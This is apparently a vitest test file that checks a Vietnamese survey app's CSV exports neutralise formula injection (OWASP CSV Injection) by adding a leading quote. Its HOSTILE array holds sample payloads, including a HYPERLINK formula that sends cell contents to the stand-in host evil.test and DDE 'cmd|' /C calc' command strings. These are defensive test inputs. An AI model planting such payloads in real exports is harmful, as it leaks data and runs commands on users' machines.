import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { toCsv } from '../../server/csv';
import { setup, signIn } from './helpers';
import { API, CAMPAIGN, type Ctx, closeCampaign, submitForms } from './results/helpers';

/**
 * OWASP "CSV Injection": a cell that starts with = + - @ tab or CR is run by Excel/LibreOffice
 * as a formula. Every CSV the server writes must show such text as text: read back, the cell
 * starts with a single quote and keeps the rest unchanged.
 */
const HOSTILE = [
  '=HYPERLINK("http://evil.test/?x="&A1,"Bấm vào đây")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const read = (text: string) =>
  parse(text.replace(/^\uFEFF/, ''), { columns: true, skip_empty_lines: true }) as Record<
    string,
    string
  >[];

const neutral = (cell: string | undefined, original: string) => {
  expect(cell).toBe(`'${original}`);
};

let ctx: Ctx;
let officer: Awaited<ReturnType<typeof signIn>>;
let analyst: Awaited<ReturnType<typeof signIn>>;
let admin: Awaited<ReturnType<typeof signIn>>;
/** Names given to the first people of a group that nobody answers for. */
let named: string[] = [];

beforeAll(async () => {
  ctx = await setup();
  officer = await signIn(ctx, 'officer');
  analyst = await signIn(ctx, 'analyst');
  admin = await signIn(ctx, 'admin');
  const people = await ctx.db
    .selectFrom('respondent')
    .select('id')
    .where('groupCode', '=', 'LD_UBND_XA')
    .orderBy('id')
    .limit(HOSTILE.length)
    .execute();
  named = [];
  for (const [i, p] of people.entries()) {
    const name = HOSTILE[i] ?? '';
    named.push(name);
    await ctx.db.updateTable('respondent').set({ name }).where('id', '=', p.id).execute();
  }
  await ctx.db
    .updateTable('auditLog')
    .set({ target: HOSTILE[0] ?? '' })
    .where('id', '=', 1)
    .execute();
  await submitForms(ctx, 'HDND_HUYEN', 'A', 3, { comments: { P01: HOSTILE[3] ?? '' } });
});

describe('CSV exports neutralise formulas (OWASP)', () => {
  it('links.csv: names that look like formulas are text', async () => {
    const rows = read(await (await officer(`${API}/links.csv`)).text());
    // Headed in Vietnamese, for the office that opens it.
    const name = (r: Record<string, string>) => r['Họ và tên'];
    for (const n of named) neutral(name(rows.find((r) => name(r) === `'${n}`) ?? {}), n);
    // The message quotes the name inside a sentence: it does not start a cell, nothing to do.
    expect(rows.every((r) => !/^[=+\-@\t\r]/.test(name(r) ?? ''))).toBe(true);
  });

  it('non-responders.csv: names that look like formulas are text', async () => {
    const rows = read(await (await officer(`${API}/non-responders?format=csv`)).text());
    // Headed in Vietnamese, for the office that opens it.
    const name = (r: Record<string, string>) => r['Họ và tên'];
    for (const n of named) neutral(name(rows.find((r) => name(r) === `'${n}`) ?? {}), n);
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('audit.csv: a target that looks like a formula is text', async () => {
    const rows = read(await (await admin('/api/audit.csv')).text());
    const target = (r: Record<string, string>) => r['Đối tượng'];
    neutral(target(rows.find((r) => target(r)?.startsWith("'")) ?? {}), HOSTILE[0] ?? '');
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('comments.csv: a cleared comment that looks like a formula is text', async () => {
    await closeCampaign(ctx);
    const list = (await (await analyst(`${API}/comments`)).json()) as { id: string }[];
    expect(list.length).toBeGreaterThan(0);
    for (const c of list) {
      const put = await analyst(`${API}/comments/${c.id}`, {
        method: 'PUT',
        body: JSON.stringify({ text: HOSTILE[0] }),
      });
      expect(put.status).toBe(200);
    }
    const rows = read(await (await analyst(`${API}/comments.csv`)).text());
    expect(rows.length).toBe(list.length);
    for (const r of rows) neutral(r.comment, HOSTILE[0] ?? '');
  });

  it('the scores and the raw answers keep their numbers as numbers', async () => {
    const run = await analyst(`/api/campaigns/${CAMPAIGN}/runs`, { method: 'POST' });
    expect(run.status).toBeLessThan(300);
    const id = ((await run.json()) as { method: { runId: string } }).method.runId;
    const scores = read(await (await analyst(`${API}/runs/${id}/export.csv`)).text());
    expect(scores.length).toBeGreaterThan(0);
    const raw = read(await (await analyst(`${API}/raw-answers.csv?part=1`)).text());
    expect(raw.length).toBeGreaterThan(0);
    for (const r of [...scores, ...raw])
      for (const v of Object.values(r)) expect(v).not.toMatch(/^'?[=+@\t\r]|^'-/);
  });

  it('toCsv: formulas get a quote, plain numbers and ordinary text do not', () => {
    const text = toCsv(
      ['v'],
      [
        ...HOSTILE.map((v) => ({ v })),
        { v: -3 },
        { v: '-3' },
        { v: '+1.5' },
        { v: '-1,25' },
        { v: '-1,2,3' },
        { v: 'Nguyễn Văn A' },
        { v: 'a-b=c' },
      ],
    );
    expect(read(text).map((r) => r.v)).toEqual([
      ...HOSTILE.map((h) => `'${h}`),
      '-3',
      '-3',
      '+1.5',
      // A number the Vietnamese way is a number; two commas are not.
      '-1,25',
      "'-1,2,3",
      'Nguyễn Văn A',
      'a-b=c',
    ]);
  });
});
